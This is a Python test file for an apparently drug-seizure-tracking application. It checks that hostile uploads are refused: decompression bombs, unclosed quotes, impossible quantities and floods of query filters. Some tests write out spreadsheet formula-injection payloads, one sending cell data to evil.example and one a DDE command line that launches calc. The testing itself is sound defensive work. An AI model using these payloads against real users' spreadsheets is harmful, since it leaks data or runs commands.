"""Hole 7 of the security issue: inputs. Each test replays an attack and checks the refusal."""

from __future__ import annotations

import ast
import csv
import io
import json
import random
import re
import subprocess
import sys
import textwrap
import zipfile
from contextlib import ExitStack
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, func, select

from astara.agencies.scope import Scope
from astara.db.engine import transaction
from astara.db.models import ImportJob, SeizureEvent, SeizureItem
from astara.errors import ImportFailed, InvalidInput
from astara.imports.readers import open_source
from astara.kit.limits import ReadLimits
from astara.kit.spreadsheet import FORMULA_STARTS
from astara.settings import Settings
from fixtures.bombs import gzip_line, zip_bomb
from fixtures.make import IDS_HEADER, ids_row, import_file, write_ids

SRC = Path(__file__).resolve().parents[2] / "src"


def _stored(engine: Engine) -> tuple[int, int, int]:
    with transaction(engine) as session:
        return tuple(  # type: ignore[return-value]
            int(session.scalar(select(func.count()).select_from(m)) or 0)
            for m in (SeizureEvent, SeizureItem, ImportJob)
        )


def _ids_text(rows: list[list[str]]) -> str:
    return "\n".join(";".join(r) for r in [IDS_HEADER, *rows]) + "\n"


# -- unterminated quotes -------------------------------------------------------------------------
@pytest.mark.parametrize("by_columns", [True, False])
def test_an_unclosed_quote_fails_the_import_naming_its_row(
    engine: Engine, scope: Scope, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, by_columns: bool
) -> None:
    from astara.imports import service

    monkeypatch.setattr(service, "BY_COLUMNS", by_columns)
    rows = [ids_row(AMOUNT=str(10 + n)) for n in range(6)]
    rows[2][IDS_HEADER.index("PLACE")] = '"Astara'  # opened on file row 4, never closed
    path = tmp_path / "quote.csv"
    path.write_text(_ids_text(rows), encoding="utf-8")
    with pytest.raises(InvalidInput) as caught:
        import_file(engine, scope, path, keep_valid=True)
    assert "row 4" in caught.value.message and "not closed" in caught.value.message
    assert caught.value.details == [{"row": 4, "reason": "unclosed quote"}]
    assert _stored(engine) == (0, 0, 0)


def test_a_quote_closed_later_in_the_file_is_refused_too(tmp_path: Path) -> None:
    path = tmp_path / "quote.csv"
    path.write_text('A;B\n1;2\n3;"x\n5;6\n7;"8"\n9;10\n', encoding="utf-8")
    with pytest.raises(InvalidInput, match="row 3: a quoted value"), ExitStack() as stack:
        list(open_source(path, stack).rows)


def test_a_quoted_value_across_lines_still_reads(tmp_path: Path) -> None:
    path = tmp_path / "ok.csv"
    path.write_text('A;B\n1;2\n3;"x\ny"\n5;6\n', encoding="utf-8")
    with ExitStack() as stack:
        assert list(open_source(path, stack).rows) == [(2, ["1", "2"]), (4, ["3", "x\ny"]), (5, ["5", "6"])]


# -- archive and line bombs ----------------------------------------------------------------------
ROW = ";".join(ids_row()).encode() + b"\n"


def _sheet(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _refusal(path: Path, limits: ReadLimits = ReadLimits()) -> InvalidInput:  # noqa: B008 - frozen
    with pytest.raises(InvalidInput) as caught, ExitStack() as stack:
        for _ in open_source(path, stack, limits=limits).rows:
            pass
    return caught.value


def test_a_zip_bomb_is_refused_while_it_expands(tmp_path: Path) -> None:
    block = (ROW * ((1 << 20) // len(ROW) + 1))[: 1 << 20]
    bomb = zip_bomb(tmp_path / "ids.zip", "ids.csv", block, 640)
    with zipfile.ZipFile(bomb) as archive:  # a well-formed archive: 640 MB in about a megabyte
        assert archive.getinfo("ids.csv").file_size == 640 << 20
    assert bomb.stat().st_size < 3_000_000
    error = _refusal(bomb)
    assert "ids.zip:ids.csv expands to more than" in error.message
    assert "ASTARA_MAX_COMPRESSION_RATIO" in error.message


def test_a_zip_member_is_held_to_the_decompressed_limit(tmp_path: Path) -> None:
    noisy = bytes(random.Random(7).randrange(256) for _ in range(1 << 16)).hex().encode()  # hardly compresses
    rows = b"A;B\n" + b"".join(b"1;" + noisy[i : i + 200] + b"\n" for i in range(0, len(noisy), 200))
    path = tmp_path / "ids.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("ids.csv", rows * 2)
    error = _refusal(path, ReadLimits(decompressed_bytes=100_000))
    assert "ASTARA_MAX_DECOMPRESSED_MB" in error.message
    with ExitStack() as stack:  # within the limit it reads
        assert len(list(open_source(path, stack, limits=ReadLimits(decompressed_bytes=1_000_000)).rows)) > 1


def test_a_gzip_line_bomb_is_refused_at_the_line_limit(tmp_path: Path) -> None:
    error = _refusal(gzip_line(tmp_path / "line.csv.gz", 64))
    assert (
        error.message
        == "line.csv.gz, line 2: the line is longer than 1,000,000 characters (ASTARA_MAX_LINE_CHARS)"
    )


def test_an_xlsx_bomb_is_refused_before_the_sheet_reader_holds_it(tmp_path: Path) -> None:
    sheet = _sheet([["A", "B"], ["1", "2"]])
    path = tmp_path / "bomb.xlsx"
    with (
        zipfile.ZipFile(io.BytesIO(sheet)) as original,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out,
    ):
        for info in original.infolist():
            out.writestr(info, original.read(info))
        out.writestr("xl/media/padding.bin", b"\0" * (200 << 20))  # 200 MB of nothing in 200 KB
    error = _refusal(path)
    assert error.message.startswith("bomb.xlsx expands to more than")


def test_long_cells_and_too_many_columns_are_refused(tmp_path: Path) -> None:
    cell = tmp_path / "cell.csv"
    cell.write_text("A;B\n1;" + "x" * 40_000 + "\n", encoding="utf-8")
    assert "line 2: a cell is longer than 32,000 characters" in _refusal(cell).message
    wide = tmp_path / "wide.csv"
    wide.write_text(";".join(f"C{i}" for i in range(600)) + "\n", encoding="utf-8")
    assert "row 1: 600 columns, more than the limit of 500" in _refusal(wide).message
    sheet = tmp_path / "cell.xlsx"
    sheet.write_bytes(_sheet([["A", "B"], ["1", "y" * 40_000]]))
    assert "row 2: a cell is longer than 32,000 characters" in _refusal(sheet).message


@pytest.mark.parametrize("kind", ["zip", "gz"])
def test_the_bombs_stay_under_a_gigabyte_of_address_space(tmp_path: Path, kind: str) -> None:
    """The largest bombs, read in a process that may not map more than 1 GB: refused, not killed."""
    if kind == "zip":
        block = (ROW * ((1 << 20) // len(ROW) + 1))[: 1 << 20]
        path = zip_bomb(tmp_path / "ids.zip", "ids.csv", block, 640)
    else:
        path = gzip_line(tmp_path / "line.csv.gz", 2048)
    script = textwrap.dedent(f"""
        import json, resource
        from contextlib import ExitStack
        from pathlib import Path
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
        from astara.errors import ImportFailed, InvalidInput
        from astara.imports.readers import open_source
        try:
            with ExitStack() as stack:
                rows = sum(1 for _ in open_source(Path({str(path)!r}), stack).rows)
            outcome = f"read {{rows}} rows"
        except InvalidInput as exc:
            outcome = exc.message
        status = dict(line.split(":", 1) for line in Path("/proc/self/status").read_text().splitlines())
        peak = int(status["VmHWM"].split()[0])  # (this process's own peak: ru_maxrss counts the parent's)
        print(json.dumps({{"outcome": outcome, "peak_kb": peak}}))
    """)
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, env={"PYTHONPATH": str(SRC)}
    )
    assert done.returncode == 0, done.stderr[-2000:]
    result = json.loads(done.stdout)
    print(f"{kind} bomb: peak resident {result['peak_kb'] / 1024:.0f} MB; {result['outcome']}")
    assert "expands to more than" in result["outcome"] or "longer than 1,000,000" in result["outcome"]


# -- item quantities -----------------------------------------------------------------------------
@pytest.mark.parametrize("by_columns", [True, False])
@pytest.mark.parametrize(
    ("amount", "unit"),
    [("1e308", "Ton"), ("1000001", "Kilogram"), ("2000000000", "Tablet"), ("1.1e9", "Hectare")],
)
def test_an_item_above_a_thousand_tonnes_or_a_billion_units_fails_the_import(
    engine: Engine,
    scope: Scope,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    by_columns: bool,
    amount: str,
    unit: str,
) -> None:
    from astara.imports import service

    monkeypatch.setattr(service, "BY_COLUMNS", by_columns)
    rows = [ids_row(AMOUNT=str(10 + n)) for n in range(5)]
    rows.insert(2, ids_row(AMOUNT=amount, DRUG_UNIT=unit, DRUG_NAME="MDMA"))
    path = write_ids(tmp_path / "ids.csv", rows)
    with pytest.raises(ImportFailed) as caught:
        import_file(engine, scope, path)
    [problem] = caught.value.details
    assert (problem["row"], problem["column"]) == (4, "AMOUNT")
    assert "the most one item may hold" in problem["reason"]
    assert _stored(engine) == (0, 0, 0)


@pytest.mark.parametrize("by_columns", [True, False])
def test_the_largest_item_allowed_is_stored(
    engine: Engine, scope: Scope, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, by_columns: bool
) -> None:
    from astara.imports import service

    monkeypatch.setattr(service, "BY_COLUMNS", by_columns)
    rows = [ids_row(AMOUNT="1000", DRUG_UNIT="Ton"), ids_row(AMOUNT="1000000000", DRUG_UNIT="Plant")]
    report = import_file(engine, scope, write_ids(tmp_path / "ids.csv", rows))
    assert (report.events_created, report.rejected_rows) == (2, 0)


@pytest.mark.parametrize("quantity", [1e308, "1e308", "NaN", "Infinity", 2e9])
def test_the_api_refuses_an_impossible_quantity_on_create_and_update(
    api_client: TestClient, quantity: object
) -> None:
    body = {"reference": "Q-1", "date": "2016-05-03", "country": "AZ",
            "items": [{"drug": "heroin", "quantity": 12, "unit": "kg"}]}  # fmt: skip
    bad = {**body, "items": [{"drug": "heroin", "quantity": quantity, "unit": "t"}]}
    made = api_client.post("/api/seizures", json=bad)
    assert made.status_code == 422
    assert [d["field"] for d in made.json()["error"]["details"]] == ["items.0.quantity"]
    assert api_client.get("/api/seizures").json()["total"] == 0
    event = api_client.post("/api/seizures", json=body).json()
    put = api_client.put(f"/api/seizures/{event['id']}", json=bad, params={"version": 1})
    assert put.status_code == 422
    assert api_client.get(f"/api/seizures/{event['id']}").json()["items"][0]["quantity"] == 12
    assert api_client.get("/api/stats", params={"by": "drug"}).status_code == 200


def test_the_form_refuses_an_impossible_quantity(api_client: TestClient) -> None:
    page = api_client.get("/seizures/new")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)  # type: ignore[union-attr]
    data = {"csrf_token": csrf, "country": "AZ", "date": "2016-05-03",
            "items-0-drug": "heroin", "items-0-quantity": "1e308", "items-0-unit": "t"}  # fmt: skip
    answer = api_client.post("/seizures/new", data=data)
    assert answer.status_code == 422 and "the most one item may hold" in answer.text
    assert api_client.get("/api/seizures").json()["total"] == 0


# -- formulas in written cells -------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_the_rejects_file_escapes_formulas(engine: Engine, scope: Scope, tmp_path: Path) -> None:
    header = [*IDS_HEADER, "=cmd|' /C calc'!A0"]  # an extra column the mapping does not use
    rows = [[*ids_row(), "x"], [*ids_row(PLACE=FORMULA, DRUG_NAME="@SUM(1+1)"), "-2+3"]]
    path = tmp_path / "ids.csv"
    path.write_text("\n".join(";".join(r) for r in [header, *rows]) + "\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    import_file(engine, scope, path, keep_valid=True, rejects_path=rejects)
    with rejects.open(encoding="utf-8", newline="") as f:
        written = list(csv.reader(f))
    cells = [cell for row in written for cell in row]
    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
    assert "'=cmd|' /C calc'!A0" in written[0]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


def test_exports_escape_formulas_in_csv_and_xlsx(api_client: TestClient, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    body = {"reference": "=1+2", "date": "2016-05-03", "country": "AZ", "notes": FORMULA,
            "items": [{"drug": "heroin", "quantity": 12, "unit": "kg"}]}  # fmt: skip
    assert api_client.post("/api/seizures", json=body).status_code == 201
    text = api_client.get("/api/export", params={"format": "csv"}).text
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'=1+2" in cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    sheet = load_workbook(io.BytesIO(api_client.get("/api/export", params={"format": "xlsx"}).content))
    values = [c for row in sheet.active.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    assert "'=1+2" in values and not [c for c in values if c.startswith(FORMULA_STARTS)]


def test_every_csv_writer_goes_through_the_escaping_one() -> None:
    """Only kit/spreadsheet.py makes a csv.writer: every other writer escapes its cells through it."""
    found = []
    for path in (SRC / "astara").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                found.append(str(path.relative_to(SRC)))
    assert found == ["astara/kit/spreadsheet.py"]


# -- country values ------------------------------------------------------------------------------
@pytest.mark.parametrize("by_columns", [True, False])
@pytest.mark.parametrize(("column", "value"), [("COUNTRY", "=1+2"), ("DEPARTURE_COUNTRY", "-4")])
def test_a_formula_or_a_signed_number_is_not_a_country(
    engine: Engine,
    scope: Scope,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    by_columns: bool,
    column: str,
    value: str,
) -> None:
    from astara.imports import service

    monkeypatch.setattr(service, "BY_COLUMNS", by_columns)
    rows = [ids_row(AMOUNT=str(10 + n)) for n in range(4)]
    rows.insert(1, ids_row(**{column: value}))
    with pytest.raises(ImportFailed) as caught:
        import_file(engine, scope, write_ids(tmp_path / "ids.csv", rows))
    assert caught.value.details == [
        {"row": 3, "column": column, "value": value,
         "reason": f"{value!r} is not a country name or code (a name begins with a letter)"}
    ]  # fmt: skip
    assert _stored(engine) == (0, 0, 0)


@pytest.mark.parametrize("value", ["Côte d'Ivoire", "St. Lucia", "Азербайджан", "ایران", "IRN", "AZ", "004"])
def test_names_and_codes_in_any_script_are_still_countries(value: str) -> None:
    from astara.kit.countries import resolve_country

    assert resolve_country(value)


def test_the_api_and_filters_refuse_a_formula_as_a_country(api_client: TestClient) -> None:
    body = {
        "date": "2016-05-03",
        "country": "=1+2",
        "items": [{"drug": "heroin", "quantity": 1, "unit": "kg"}],
    }
    made = api_client.post("/api/seizures", json=body)
    assert made.status_code == 422 and made.json()["error"]["details"][0]["field"] == "country"
    assert api_client.get("/api/seizures").json()["total"] == 0
    listed = api_client.get("/api/seizures", params={"where": "country==1+2"})
    assert listed.status_code == 422 and "=1+2" in listed.json()["error"]["message"]


# -- request parameters --------------------------------------------------------------------------
@pytest.mark.parametrize(
    "route", ["/api/seizures", "/api/stats?by=drug", "/api/export", "/api/trends", "/seizures"]
)
def test_two_thousand_filters_are_refused_naming_the_parameter(api_client: TestClient, route: str) -> None:
    sep = "&" if "?" in route else "?"
    answer = api_client.get(route + sep + "&".join(["where=country%3DAZ"] * 2000))
    assert answer.status_code == 422
    error = answer.json()["error"]
    assert error["details"] == [{"parameter": "where", "count": 2000, "limit": 100}]
    assert "ASTARA_MAX_QUERY_PARAMETERS" in error["message"]


def test_the_parameter_limit_is_a_setting_and_where_has_its_own(settings: Settings, api_token: str) -> None:
    from astara.web.app import create_app

    client = TestClient(
        create_app(settings.model_copy(update={"max_query_parameters": 1000})),
        headers={"Authorization": f"Bearer {api_token}"},
    )
    assert client.get("/api/seizures", params=[("where", "country=AZ")] * 100).status_code == 200
    answer = client.get("/api/seizures", params=[("where", "country=AZ")] * 500)
    assert answer.status_code == 422
    assert answer.json()["error"]["details"] == [{"parameter": "where", "count": 500, "limit": 100}]


def test_the_cli_caps_where_filters_too() -> None:
    from astara.seizures.dimensions import parse_where

    with pytest.raises(InvalidInput, match="101 --where filters, more than the limit of 100"):
        parse_where(["country=AZ"] * 101)
